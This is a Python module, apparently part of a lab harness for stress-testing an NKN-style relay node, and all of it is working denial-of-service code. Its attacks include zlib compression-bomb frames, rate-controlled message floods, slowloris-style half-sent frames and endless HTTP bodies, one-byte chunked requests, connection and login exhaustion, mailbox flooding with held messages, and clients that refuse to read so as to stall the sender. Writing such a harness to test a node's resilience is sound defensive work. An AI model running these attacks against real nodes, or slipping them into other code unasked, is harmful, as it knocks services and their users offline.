"""`python -m lab.attack.stranger ATTACK HOST WS_PORT RPC_PORT RATE DEST`: one address that attacks a node.

RATE is bytes a second, or connections for the attacks that hold those. It prints `ready` once the attack is
under way, and goes on until it is ended.
"""

from __future__ import annotations

import os
import select
import socket
import sys
import time
import zlib
from collections.abc import Callable, Iterator

from lab.attack.client import UPGRADE, Client, frame_head
from nconnect.crypto.keys import Identity
from nconnect.wire.nkn import OutboundMessage
from nconnect.wire.protobuf import bytes_field, uint_field

BURST_S = 0.005
SMALL_BYTES = 100
HOLDING_S = 3600


class Stranger:
    """All sockets of one attacking address."""

    def __init__(self, host: str, ws_port: int, rpc_port: int, rate: int, dest: str) -> None:
        self._host = host
        self._ports = {"ws": ws_port, "rpc": rpc_port}
        self._rate = rate
        self._dest = dest

    # Attacks

    def inflate(self) -> None:
        """Frames of 4 KB that decompress to 4 MiB."""
        body = bytes_field(8, bytes((4 << 20) - 200)) + bytes_field(3, self._dest.encode())
        frame = uint_field(1, 0) + bytes_field(2, zlib.compress(body, 9)) + uint_field(3, 1)
        self._flood(lambda: iter(lambda: frame, None))

    def small(self) -> None:
        """Small messages to a client that does not want them."""
        frame = OutboundMessage((self._dest,), (os.urandom(SMALL_BYTES),)).encode()
        self._flood(lambda: iter(lambda: frame, None))

    def kilobyte(self) -> None:
        """The same with a kilobyte each."""
        frame = OutboundMessage((self._dest,), (os.urandom(1024),)).encode()
        self._flood(lambda: iter(lambda: frame, None))

    def half_frames(self) -> None:
        """Connections that never log in, each with a part of a large frame."""
        self._hold(lambda: self._half_frame())

    def rpc(self) -> None:
        """RPC connections that ask for nothing."""
        self._hold(lambda: self._connect("rpc"))

    def rpc_halves(self) -> None:
        """RPC requests that never end."""
        head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n"
        self._hold(lambda: self._sent(self._connect("rpc"), head + bytes(59_000)))

    def requests(self) -> None:
        """RPC requests, one behind the other."""
        self._stream(b"", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")

    def chunks(self) -> None:
        """RPC requests whose body comes in chunks of one byte."""
        self._stream(b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n")

    def logins(self) -> None:
        """Clients with fresh keys."""
        self._hold(lambda: self._client().sock)

    def mail(self) -> None:
        """Messages to be held for absent clients, each for another one."""

        def frames() -> Iterator[bytes]:
            while True:
                dest = Identity(os.urandom(32)).public_key.hex()
                yield OutboundMessage((dest,), (bytes(10),), max_holding_seconds=HOLDING_S).encode()

        self._flood(frames)

    def mail_to_one(self) -> None:
        """Messages to be held for one client, from many senders."""
        frame = OutboundMessage((self._dest,), (bytes(10),), max_holding_seconds=HOLDING_S).encode()
        self._flood(lambda: iter(lambda: frame, None))

    def deaf(self) -> None:
        """Clients that do not read, and large messages to all of them."""
        deaf = self._deaf(50)
        frame = OutboundMessage(tuple(c.address for c in deaf[:12]), (bytes(4_000_000),)).encode()
        small = [OutboundMessage((c.address,), (bytes(1),)).encode() for c in deaf]

        def frames() -> Iterator[bytes]:
            while True:
                yield frame
                for _ in range(200):
                    yield from small

        self._flood(frames)

    def frame_halves(self) -> None:
        """Clients that have logged in, each with a part of a large frame."""
        half = frame_head(2, 4 << 20) + bytes(3_900_000)
        self._hold(lambda: self._sent(self._client().sock, half))

    def read(self) -> None:
        """No attack: a client that reads what it gets. DEST is its seed."""
        client = Client(self._connect("ws"), Identity(bytes.fromhex(self._dest))).log_in()
        client.sock.settimeout(None)
        print("ready", flush=True)
        while client.sock.recv(1 << 18):
            pass

    # How

    def _deaf(self, most: int) -> list[Client]:
        """As many clients as the node lets in, less one, so that there is a place for the sender."""
        clients: list[Client] = []
        while len(clients) < most:
            try:
                clients.append(self._client(receive_buffer=4096))
            except (OSError, ValueError):
                if len(clients) > 4:
                    clients.pop().close()
                    break
                time.sleep(0.2)
        return clients

    def _connect(self, kind: str, receive_buffer: int = 0) -> socket.socket:
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(10)
        sock.connect((self._host, self._ports[kind]))
        return sock

    def _client(self, receive_buffer: int = 0) -> Client:
        return Client(self._connect("ws", receive_buffer), Identity(os.urandom(32))).log_in()

    def _half_frame(self) -> socket.socket:
        sock = self._connect("ws")
        return self._sent(sock, UPGRADE + frame_head(2, 4 << 20) + bytes(1 << 20))

    def _sent(self, sock: socket.socket, data: bytes) -> socket.socket:
        try:
            sock.sendall(data)
        except TimeoutError:
            pass  # the node does not read so much
        return sock

    def _flood(self, frames: Callable[[], Iterator[bytes]]) -> None:
        """Send at the rate; log in again when the node has had enough."""
        ready = False
        while True:
            try:
                client = self._client()
            except (OSError, ValueError):
                time.sleep(0.1)
                continue
            client.sock.settimeout(None)
            if not ready:
                ready = True
                print("ready", flush=True)
            try:
                self._send(client.sock, frames())
            except OSError:
                client.close()

    def _stream(self, head: bytes, piece: bytes) -> None:
        """Send to the RPC port at the rate, and read nothing; connect again when it has had enough."""
        burst = piece * max(1, int(self._rate * BURST_S) // len(piece))
        began, sent = time.monotonic(), 0
        print("ready", flush=True)
        while True:
            try:
                with self._connect("rpc") as sock:
                    sock.sendall(head)
                    while True:
                        sock.sendall(burst)
                        sent += len(burst)
                        time.sleep(max(0.0, began + sent / self._rate - time.monotonic()))
            except OSError:
                time.sleep(0.001)

    def _send(self, sock: socket.socket, frames: Iterator[bytes]) -> None:
        began, sent, told = time.monotonic(), 0, 0
        while True:
            batch, size = [], 0
            while size < max(1, self._rate * BURST_S):
                frame = next(frames)
                batch += [frame_head(2, len(frame)), frame]
                size += len(frame)
            sock.sendall(b"".join(batch))
            sent += size
            ahead = began + sent / self._rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
            elif ahead < -1:
                began, sent = time.monotonic(), 0  # it can't keep up: no burst later
            told += size
            if told >= self._rate:
                told = 0
                print(f"sent {self._rate} at {time.monotonic():.2f}", flush=True)

    def _hold(self, make: Callable[[], socket.socket]) -> None:
        """Keep so many connections, and make another for each that is closed."""
        held: list[socket.socket] = []
        ready = False
        tries = 0
        while True:
            if len(held) < self._rate:
                tries += 1
                try:
                    held.append(make())
                except (OSError, ValueError):
                    time.sleep(0.05)
            if not ready and tries >= min(self._rate, 90):
                ready = True
                print("ready", flush=True)
            wait_s = 0.0 if len(held) < self._rate else 0.5
            poller = select.poll()
            for sock in held:
                poller.register(sock, select.POLLIN)
            ended = {fd for fd, _ in poller.poll(wait_s * 1000)}
            for sock in [s for s in held if s.fileno() in ended]:
                try:
                    if sock.recv(1 << 16, socket.MSG_DONTWAIT):
                        continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                held.remove(sock)
                sock.close()


def main() -> None:
    attack, host, ws_port, rpc_port, rate, dest = sys.argv[1:]
    stranger = Stranger(host, int(ws_port), int(rpc_port), int(rate), dest)
    getattr(stranger, attack)()


if __name__ == "__main__":
    main()
